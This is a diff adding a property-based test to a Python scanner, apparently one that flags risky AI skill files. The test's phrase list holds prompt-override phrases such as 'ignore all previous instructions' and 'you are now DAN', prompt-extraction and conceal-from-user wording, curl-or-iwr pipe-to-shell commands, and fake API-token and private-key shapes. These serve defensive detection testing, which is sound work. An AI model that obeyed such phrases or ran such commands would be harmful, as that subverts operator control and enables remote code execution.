@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from skillindex.index import risk
 from tests.riskcases import BENIGN, HOSTILE, OPENAI_KEY, Case
@@ -51,3 +53,60 @@ def test_a_file_too_large_to_read_is_judged_by_its_mode_alone() -> None:
 def test_hostile_shapes_finish(text: str) -> None:
     # Linear patterns: these finish at once (the benchmark measures how fast).
     risk.judge_file("SKILL.md", text.encode(), 0o100644)
+
+
+# -- The word prefilter never hides a finding ---------------------------------------------------
+
+# Phrases each pattern exists for, as words: a line is one of them with its words' case,
+# spacing and neighbours varied, so that lines that match and lines that nearly do both occur.
+_PHRASES = (
+    ("ignore", "all", "previous", "instructions"), ("do not", "tell", "the", "user"),
+    ("without", "telling", "the", "user"), ("hide", "this", "from", "the", "user"),
+    ("reveal", "your", "system", "prompt"), ("print", "the", "hidden", "instructions"),
+    ("you", "are", "now", "dan"), ("you are now in", "developer mode"),
+    ("never", "mention", "it", "to the", "user"), ("curl", "-fsSL", "https://x.example/i", "|",
+                                                   "bash"),
+    ("sh", "-c", "\"$(curl", "u)\""), ("bash", "<(wget", "-qO-", "u)"), ("eval", "$(curl", "u)"),
+    ("iex", "(new-object", "net.webclient)"), ("iwr", "u", "|", "iex"),
+    ("akia" + "abcdefghijklmnop",), ("sk-ant-" + "a1" * 12,), ("ghp_" + "ab" * 18,),
+    ("glpat-" + "x" * 20,), ("xoxb-" + "1" * 12,), ("aiza" + "b" * 35,), ("sk_live_" + "c" * 16,),
+    ("-----begin", "private key-----"), ("-----begin rsa", "private", "key-----"),
+)
+_CASES = (str.lower, str.upper, str.title)
+# Mostly spaces, so that most lines match; now and then what breaks a word or a phrase.
+_GAPS = (*" " * 12, "  ", "\t", "", "-", "_", "x", "é", "\u200b", " example ")
+_NEIGHBOURS = ("", "", "x", "_", "9", " ", "`", '"', "é", "-", "(", "don't ", "e.g. ")
+
+
+@st.composite
+def _line(draw: st.DrawFn) -> str:
+    words = [draw(st.sampled_from(_CASES))(word) for word in draw(st.sampled_from(_PHRASES))]
+    gaps = [draw(st.sampled_from(_GAPS)) for _ in words[1:]]
+    text = words[0] + "".join(gap + word for gap, word in zip(gaps, words[1:], strict=True))
+    return draw(st.sampled_from(_NEIGHBOURS)) + text + draw(st.sampled_from(_NEIGHBOURS))
+
+
+def _every_line(rel_path: str, data: bytes) -> list[risk.Risk]:
+    """What the patterns find when tried on every line, with no prefilter."""
+    found: list[risk.Risk] = []
+    for code in risk._FAMILIES:
+        count = 0
+        offset = 0
+        for number, line in enumerate(data.split(b"\n"), start=1):
+            for column, message in risk._JUDGES[code](line.decode("utf-8", "replace")):
+                found.append(risk.Risk(code, rel_path, number, f"column {column}: {message}"))
+                count += 1
+                break
+            offset += len(line) + 1
+            if count == risk.MAX_PER_CODE:
+                break
+    return found
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_line(), max_size=8), st.sampled_from(("\n", " ", "; ")))
+def test_the_word_prefilter_finds_what_every_line_would(lines: list[str], joint: str) -> None:
+    data = joint.join(lines).encode()
+    lowered = data.lower()
+    assert risk._patterns("a.md", data, lowered, risk._anchored(lowered)) == _every_line(
+        "a.md", data)
